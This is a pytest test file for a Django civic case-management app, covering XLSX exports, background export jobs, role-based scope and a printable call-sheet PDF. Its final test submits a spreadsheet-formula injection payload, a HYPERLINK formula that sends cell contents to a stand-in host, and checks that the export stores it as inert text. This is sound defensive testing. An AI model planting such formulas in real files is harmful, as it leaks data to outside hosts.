"""Documents from cases: the list as XLSX (at once, or as a background job) and the call
sheet as a page and a PDF. Scope as everywhere: what the role cannot see is absent (404)."""

from __future__ import annotations

import io
import re
import zlib
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from huying.cases import services, xlsx
from huying.cases.models import Assignment, Case, CaseExport, CaseState, ExportState
from huying.cases.selectors import CaseFilters
from huying.cases.services.export import case_export_run
from huying.cases.tasks import case_export_start
from huying.cases.tests.helpers import case_in_state, submit
from huying.catalogue.models import Level
from huying.conftest import MONDAY_10AM, World
from huying.core.errors import PermissionDenied
from huying.org.models import RoleGrant

pytestmark = pytest.mark.django_db


def login(world: World, name: str) -> Client:
    return world.client(name)


def body(response: Any) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return bytes(response.content)


def sheet_rows(data: bytes) -> list[tuple[Any, ...]]:
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    return list(ws.iter_rows(values_only=True))


@pytest.fixture
def immediate_tasks(settings: Any, tmp_path: Path) -> None:
    """Tasks run as they are enqueued; export files go to a scratch media root."""
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    settings.MEDIA_ROOT = tmp_path


# --- XLSX, at once -----------------------------------------------------------------------------


def test_export_holds_exactly_the_filtered_rows_in_scope(world: World) -> None:
    """Street 1's caller exports what its list shows: street 2's case is never in it, and a
    filter narrows the file as it narrows the list."""
    working = case_in_state(world, CaseState.IN_PROGRESS)
    waiting = submit(world, grid=0)
    elsewhere = submit(world, grid=2)  # street 2
    client = login(world, "street")

    everything = client.post("/cases/export/")
    assert everything.status_code == 200
    assert everything["Content-Type"] == xlsx.CONTENT_TYPE
    assert "attachment" in everything["Content-Disposition"]
    rows = sheet_rows(body(everything))
    assert rows[0] == tuple(xlsx.HEADERS)
    assert [r[0] for r in rows[1:]] == [waiting.number, working.number]  # newest first
    assert elsewhere.number not in {r[0] for r in rows}

    filtered = client.post("/cases/export/?state=in_progress")
    assert [r[0] for r in sheet_rows(body(filtered))[1:]] == [working.number]
    # The list page's own query string (GET) gives the same rows.
    assert [r[0] for r in sheet_rows(body(client.get("/cases/export/?state=submitted")))[1:]] == [
        waiting.number
    ]


def test_export_columns_are_chinese_with_local_excel_datetimes(world: World) -> None:
    case = case_in_state(world, CaseState.IN_PROGRESS)
    data = body(login(world, "street").post("/cases/export/"))
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    headers = [c.value for c in ws[1]]
    for name in ["编号", "标题", "事项", "等级", "状态", "街道", "社区", "来源", "上报时间"]:
        assert name in headers
    assert all(c.font.b for c in ws[1])  # header bold
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width > ws.column_dimensions["D"].width > 8
    row = {h: c for h, c in zip(headers, ws[2], strict=True)}
    assert row["编号"].value == case.number
    assert row["等级"].value == "一般问题"
    assert row["状态"].value == "部门处置中"
    assert row["街道"].value == "第1街道"
    assert row["主办部门"].value == "城管局"
    # 10:00 in Shanghai, stored as a real (naive, local) Excel datetime.
    assert row["上报时间"].value == datetime(2026, 3, 10, 10, 0)
    assert row["上报时间"].is_date
    assert row["上报时间"].number_format == xlsx.DATETIME_FORMAT


def test_export_with_invalid_filters_is_refused(world: World) -> None:
    response = login(world, "street").post("/cases/export/?level=99")
    assert response.status_code == 422
    assert "筛选条件有误" in response.content.decode()


def test_export_needs_a_login(world: World) -> None:
    response = Client().post("/cases/export/")
    assert response.status_code == 302


def test_list_page_offers_the_export_with_its_query(world: World) -> None:
    page = login(world, "street").get("/cases/?state=submitted").content.decode()
    assert 'action="/cases/export/?state=submitted"' in page
    assert "导出 Excel" in page


def test_export_reads_chunk_by_chunk_without_losing_a_row(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One query per chunk, keyset on id: every row once, newest first, across boundaries."""
    monkeypatch.setattr(xlsx, "CHUNK_SIZE", 2)
    made = [submit(world, grid=0, title=f"路灯不亮{i}") for i in range(5)]
    client = login(world, "street")
    with CaptureQueriesContext(connection) as queries:
        response = client.post("/cases/export/")
        data = body(response)
    assert [r[0] for r in sheet_rows(data)[1:]] == [c.number for c in reversed(made)]
    case_reads = [q for q in queries if 'FROM "cases_case"' in q["sql"] and "COUNT" not in q["sql"]]
    assert len(case_reads) == 3  # 2 + 2 + 1


def test_workbook_reports_progress_every_n_rows() -> None:
    seen: list[int] = []
    rows = [dict.fromkeys((c.key for c in xlsx.COLUMNS), None) for _ in range(5)]
    n = xlsx.write_workbook(rows, io.BytesIO(), on_progress=seen.append, every=2)
    assert n == 5
    assert seen == [2, 4]


def test_filters_survive_a_round_trip_through_json() -> None:
    filters = CaseFilters(state="closed", level=2, overdue=True, reported_from=MONDAY_10AM)
    assert xlsx.filters_from_json(xlsx.filters_to_json(filters)) == filters


# --- XLSX, as a background job -----------------------------------------------------------------


def test_large_export_runs_as_a_job_with_progress_and_a_download(
    world: World,
    immediate_tasks: None,
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: Any,
) -> None:
    monkeypatch.setattr(xlsx, "SYNC_LIMIT", 2)
    monkeypatch.setattr(xlsx, "PROGRESS_EVERY", 1)
    mine = [submit(world, grid=0, title=f"路灯不亮{i}") for i in range(3)]
    submit(world, grid=2)  # street 2: out of scope
    client = login(world, "street")

    # GET only says how many rows and asks; nothing is queued.
    ask = client.get("/cases/export/?state=submitted")
    assert ask.status_code == 200
    assert '共 <strong class="num">3</strong> 行' in ask.content.decode()
    assert not CaseExport.objects.exists()

    with django_capture_on_commit_callbacks(execute=True):
        started = client.post("/cases/export/?state=submitted")
    assert started.status_code == 302
    export = CaseExport.objects.get()
    assert started["Location"] == f"/cases/exports/{export.pk}/"
    assert export.state == ExportState.DONE
    assert (export.done, export.total) == (3, 3)
    assert export.filters == {"state": "submitted"}
    assert export.requested_by == world.actor("street").user

    page = client.get(started["Location"]).content.decode()
    assert '已导出 <strong class="num">3</strong> / <span class="num">3</span> 行' in page
    assert f"/cases/exports/{export.pk}/download/" in page
    fragment = client.get(started["Location"], headers={"HX-Request": "true"}).content.decode()
    assert 'id="export-progress"' in fragment
    assert "<html" not in fragment
    assert "every 1s" not in fragment  # done: the fragment stops polling

    download = client.get(f"/cases/exports/{export.pk}/download/")
    assert download.status_code == 200
    numbers = [r[0] for r in sheet_rows(body(download))[1:]]
    assert numbers == [c.number for c in reversed(mine)]


def test_a_running_export_keeps_polling(world: World) -> None:
    street = world.actor("street")
    assert street.grant_id is not None
    export = CaseExport.objects.create(
        requested_by=street.user,
        grant_id=street.grant_id,
        as_of=MONDAY_10AM,
        created_at=MONDAY_10AM,
        state=ExportState.RUNNING,
        total=5000,
        done=1500,
    )
    fragment = (
        login(world, "street")
        .get(f"/cases/exports/{export.pk}/", headers={"HX-Request": "true"})
        .content.decode()
    )
    assert 'data-hx-trigger="every 1s"' in fragment
    assert '已导出 <strong class="num">1500</strong> / <span class="num">5000</span> 行' in fragment
    # Not finished: nothing to download yet.
    assert login(world, "street").get(f"/cases/exports/{export.pk}/download/").status_code == 404


def test_only_the_requester_sees_or_downloads_an_export(
    world: World, immediate_tasks: None, django_capture_on_commit_callbacks: Any
) -> None:
    submit(world, grid=0)
    with django_capture_on_commit_callbacks(execute=True):
        export = case_export_start(
            actor=world.actor("street"), filters=CaseFilters(), total=1, now=MONDAY_10AM
        )
    export.refresh_from_db()
    assert export.state == ExportState.DONE
    url = f"/cases/exports/{export.pk}/"
    assert login(world, "street").get(url + "download/").status_code == 200
    for other in ["street_leader", "hub", "admin"]:  # same street, wider scope, everything
        client = login(world, other)
        assert client.get(url).status_code == 404
        assert client.get(url + "download/").status_code == 404


def test_an_export_whose_grant_was_revoked_exports_nothing(
    world: World, settings: Any, tmp_path: Path, django_capture_on_commit_callbacks: Any
) -> None:
    settings.MEDIA_ROOT = tmp_path
    submit(world, grid=0)
    street = world.actor("street")
    assert street.grant_id is not None
    with django_capture_on_commit_callbacks(execute=False):  # queued, not yet run
        export = case_export_start(actor=street, filters=CaseFilters(), total=1, now=MONDAY_10AM)
    RoleGrant.objects.filter(pk=street.grant_id).update(is_active=False)
    with pytest.raises(PermissionDenied):
        case_export_run(export_id=export.pk)
    export.refresh_from_db()
    assert export.state == ExportState.FAILED
    assert export.error
    assert not export.file
    assert not list(tmp_path.rglob("*.xlsx"))


def test_a_job_runs_once_even_if_queued_twice(
    world: World, settings: Any, tmp_path: Path, django_capture_on_commit_callbacks: Any
) -> None:
    settings.MEDIA_ROOT = tmp_path
    submit(world, grid=0)
    with django_capture_on_commit_callbacks(execute=False):
        export = case_export_start(
            actor=world.actor("street"), filters=CaseFilters(), total=1, now=MONDAY_10AM
        )
    first = case_export_run(export_id=export.pk)
    second = case_export_run(export_id=export.pk)
    assert first.state == second.state == ExportState.DONE
    assert first.file.name == second.file.name
    assert len(list(tmp_path.rglob("*.xlsx"))) == 1


# --- call sheet --------------------------------------------------------------------------------


def called_case(world: World) -> Case:
    """A complex case of street 1 dispatched by the hub: 水务局 leads, 生态环境局 helps."""
    case = case_in_state(world, CaseState.TRIAGED, level=Level.COMPLEX)
    services.case_hub_dispatch(
        actor=world.actor("hub"),
        case_id=case.pk,
        co_department_ids=[world.departments["hb"].pk],
        now=MONDAY_10AM,
    )
    return case


def test_call_sheet_shows_the_call(world: World) -> None:
    case = called_case(world)
    response = login(world, "street").get(f"/cases/{case.pk}/call-sheet/")
    assert response.status_code == 200
    page = response.content.decode()
    assert "锦城区街道呼·部门应 呼叫单" in page
    assert case.number in page
    assert "呼应办" in page and "呼应办派单" in page  # who called, and how
    assert page.index("水务局") < page.index("生态环境局")  # lead first
    assert "主办" in page and "协办" in page
    lead = Assignment.objects.get(case=case, role="lead")
    assert f"{lead.report_in_due_at.astimezone(SH):%Y-%m-%d %H:%M}" in page
    assert "@page" in page and "A4" in page
    assert f"/cases/{case.pk}/call-sheet.pdf" in page


@pytest.mark.parametrize("who", ["dept_sw", "dept_hb", "hub", "street_leader"])
def test_the_called_departments_and_the_callers_can_print_it(world: World, who: str) -> None:
    case = called_case(world)
    assert login(world, who).get(f"/cases/{case.pk}/call-sheet/").status_code == 200


def test_a_street_call_names_the_street_as_caller(world: World) -> None:
    case = case_in_state(world, CaseState.IN_PROGRESS)  # general: 对口呼叫 by street 1
    page = login(world, "street").get(f"/cases/{case.pk}/call-sheet/").content.decode()
    assert "第1街道" in page and "对口呼叫" in page and "城管局" in page


@pytest.mark.parametrize("who", ["street_b", "dept_cg", "resident2", "resident"])
def test_call_sheet_out_of_scope_is_404(world: World, who: str) -> None:
    """Another street, an uncalled department, residents (the reporter included: the sheet is
    an internal form)."""
    case = called_case(world)
    client = login(world, who)
    assert client.get(f"/cases/{case.pk}/call-sheet/").status_code == 404
    assert client.get(f"/cases/{case.pk}/call-sheet.pdf").status_code == 404


def test_a_case_never_called_has_no_call_sheet(world: World) -> None:
    for case in [submit(world), case_in_state(world, CaseState.SELF_HANDLING)]:
        response = login(world, "street").get(f"/cases/{case.pk}/call-sheet/")
        assert response.status_code == 404
        assert "该事件尚未呼叫或派单" in response.content.decode()


def test_detail_page_links_the_call_sheet(world: World) -> None:
    case = called_case(world)
    page = login(world, "street").get(f"/cases/{case.pk}/").content.decode()
    assert f"/cases/{case.pk}/call-sheet/" in page
    assert "打印呼叫单" in page


def pdf_fonts(data: bytes) -> list[tuple[bytes, bool]]:
    """(BaseFont name, embedded?) of every font: WeasyPrint packs objects into compressed
    object streams, so inflate each stream and read the font dictionaries."""
    found: list[tuple[bytes, bool]] = []
    for m in re.finditer(rb"stream\r?\n", data):
        try:
            inflated = zlib.decompressobj().decompress(data[m.end() : m.end() + 4_000_000])
        except zlib.error:
            continue
        for name in re.findall(rb"/FontName\s*/([^\s/<>\[\]]+)", inflated):
            found.append((name, b"/FontFile" in inflated))
    return found


def test_call_sheet_pdf_embeds_a_cjk_font(world: World) -> None:
    case = called_case(world)
    response = login(world, "street").get(f"/cases/{case.pk}/call-sheet.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("inline;")
    data = bytes(response.content)
    assert data.startswith(b"%PDF-")
    fonts = pdf_fonts(data)
    assert any(b"CJK" in name and embedded for name, embedded in fonts), (
        f"no embedded CJK font in the call sheet (fonts: {fonts}); install fonts-noto-cjk"
    )


SH = MONDAY_10AM.tzinfo


def test_the_hourly_sweep_removes_old_exports_and_fails_stalled_ones(
    world: World, settings: Any, tmp_path: Path
) -> None:
    """A week after it finished, an export's file and row are gone; a job still pending or
    running two hours after it was asked for lost its worker and is marked failed (its page
    stops polling); recent ones are left alone."""
    from datetime import timedelta

    from django.core.files.base import ContentFile

    from huying.cases.services.export import case_export_sweep

    settings.MEDIA_ROOT = tmp_path
    street = world.actor("street")
    grant_id = street.grant_id
    assert grant_id is not None

    def export(state: str, created: datetime, finished: datetime | None = None) -> CaseExport:
        return CaseExport.objects.create(
            requested_by=street.user,
            grant_id=grant_id,
            as_of=created,
            created_at=created,
            finished_at=finished,
            state=state,
        )

    now = MONDAY_10AM + timedelta(days=30)
    old = export(ExportState.DONE, now - timedelta(days=9), now - timedelta(days=8))
    old.file.save("old.xlsx", ContentFile(b"PK old"), save=True)
    path = old.file.path
    recent = export(ExportState.DONE, now - timedelta(days=2), now - timedelta(days=2))
    stalled = export(ExportState.RUNNING, now - timedelta(hours=3))
    waiting = export(ExportState.PENDING, now - timedelta(minutes=10))
    report = case_export_sweep(now=now)
    assert (report.deleted, report.stalled) == (1, 1)
    assert not CaseExport.objects.filter(pk=old.pk).exists()
    assert not Path(path).exists()
    stalled.refresh_from_db()
    assert stalled.state == ExportState.FAILED and stalled.error and stalled.finished_at == now
    recent.refresh_from_db()
    waiting.refresh_from_db()
    assert (recent.state, waiting.state) == (ExportState.DONE, ExportState.PENDING)


def test_text_people_typed_is_exported_as_text_never_a_formula(world: World) -> None:
    """Issue #9: a title typed as a formula was exported as a live formula, and a title with
    control characters made the export answer 500 for everyone who could see the case."""
    lat, lng = world.point_in(0)
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    services.case_submit(
        actor=world.actor("resident"),
        title=formula + "\x01\x07\x1b",
        address="=1+1",
        lat=lat,
        lng=lng,
        now=MONDAY_10AM,
    )
    response = login(world, "street").post("/cases/export/")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(body(response))).active
    assert ws is not None
    headers = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(headers, ws[2], strict=True)}
    assert (row["标题"].value, row["标题"].data_type) == (formula, "s")
    assert (row["地址"].value, row["地址"].data_type) == ("=1+1", "s")
